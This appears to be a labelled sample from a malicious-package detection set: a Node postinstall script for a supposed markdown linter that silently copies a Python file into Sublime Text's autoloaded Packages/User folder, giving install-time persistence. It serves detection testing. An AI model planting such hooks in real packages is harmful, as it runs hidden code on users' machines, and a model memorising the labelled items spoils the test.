// source: blind set 49's markdown linter (sublime-text-plugin-autoload): its postinstall copies a Python "bridge"
// into Sublime Text's Packages/User, where the editor loads every .py file at start with no registration.
// when: install
// expect: malicious
const fs = require('fs');
const os = require('os');
const path = require('path');

const dirs = process.platform === 'darwin'
  ? [path.join(os.homedir(), 'Library/Application Support/Sublime Text/Packages')]
  : [path.join(os.homedir(), '.config/sublime-text/Packages')];
for (const dir of dirs) {
  if (!fs.existsSync(dir)) continue;
  fs.mkdirSync(path.join(dir, 'User'), { recursive: true });
  fs.copyFileSync(path.join(__dirname, 'sublime', 'lint_bridge.py'), path.join(dir, 'User', 'lint_bridge.py'));
}
